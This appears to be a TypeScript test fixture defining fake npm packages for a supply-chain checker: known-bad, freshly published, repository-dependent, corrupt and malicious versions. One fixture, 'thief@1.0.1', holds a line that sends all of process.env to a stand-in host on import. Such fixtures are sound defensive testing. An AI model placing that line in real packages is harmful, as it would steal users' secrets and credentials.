import { tarball } from '../../engine/test/registry.ts';
import type { FakePackage, FakeVersion } from '../../engine/test/registry.ts';

const LONG_AGO = '2020-01-02T03:04:05.000Z';
const HOUR_AGO = new Date(Date.now() - 3_600_000).toISOString();
const harmless = { 'index.js': 'exports.add = (a, b) => a + b;\n' };

function version(more: Partial<FakeVersion> = {}): FakeVersion {
  return { files: harmless, publishedAt: LONG_AGO, ...more };
}

/** One package for each way in which a decision is reached. Nothing in them does anything; the one that would send something is never run. */
export const INERT: Readonly<Record<string, FakePackage>> = {
  plain: { versions: { '1.0.0': version(), '1.1.0': version() } },
  '@team/lib': { versions: { '1.0.0': version() } },
  bad: { versions: { '1.0.0': version(), '1.6.6': version() } },
  young: { versions: { '1.0.0': version(), '1.1.0': version({ publishedAt: HOUR_AGO }) } },
  thief: {
    versions: {
      '1.0.0': version(),
      '1.0.1': version({
        files: { 'index.js': `require('https').request('https://collect.invalid/?' + JSON.stringify(process.env)).end();\n` },
      }),
    },
  },
  below: {
    versions: {
      '1.0.0': version(),
      '1.1.0': version({ manifest: { dependencies: { elsewhere: 'git+https://git.invalid/some/body.git' } } }),
    },
  },
  swapped: { versions: { '1.0.0': version(), '1.0.1': version({ archive: 'corrupt' }) } },
};

/** What the last table leaves to be explained. */
export const ELSEWHERE =
  '`bad@1.6.6` is in the records, `thief@1.0.1` sends the environment when it is imported, `below@1.1.0` depends on a repository, and of `swapped@1.0.1` other bytes are sent than are promised.';

/** All versions of them. */
export const VERSIONS: readonly (readonly [name: string, version: string])[] = Object.entries(INERT).flatMap(([name, { versions }]) =>
  Object.keys(versions).map(version => [name, version] as const),
);

/** A signature of the form that registries publish; its key is nobody's. */
export const SIGNATURE = { keyid: 'SHA256:nobody', sig: 'MEUCIQDnobody' };

/** The archive of a version, as the fake sends it. */
export function bytesOf(name: string, number: string, { files = {} }: FakeVersion): Uint8Array {
  return tarball({ 'package.json': { name, version: number }, ...files });
}

/** In which form a registry tells what it has. */
export interface Variant {
  readonly encoding: 'identity' | 'gzip' | 'br' | 'zstd';
  readonly time: boolean;
  readonly signed: boolean;
}

/** The same packages in another form. */
export function asVariant(packages: typeof INERT, { encoding, time, signed }: Variant): typeof INERT {
  return each(packages, fake => ({
    ...fake,
    ...(encoding !== 'identity' && { encoding }),
    strip: time ? [] : ['time'],
    versions: signed ? eachVersion(fake) : fake.versions,
  }));
}

/** As mirrors pass packages on: with nothing but what it takes to install them. */
export function asMirror(packages: typeof INERT): typeof INERT {
  return each(packages, fake => ({ ...fake, encoding: 'gzip', strip: ['time', 'maintainers', '_npmUser', 'dist.shasum'] }));
}

function each(packages: typeof INERT, change: (fake: FakePackage) => FakePackage): typeof INERT {
  return Object.fromEntries(Object.entries(packages).map(([name, fake]) => [name, change(fake)]));
}

function eachVersion({ versions }: FakePackage): FakePackage['versions'] {
  return Object.fromEntries(
    Object.entries(versions).map(([number, made]) => [
      number,
      { ...made, manifest: { ...made.manifest, dist: { signatures: [SIGNATURE] } } },
    ]),
  );
}
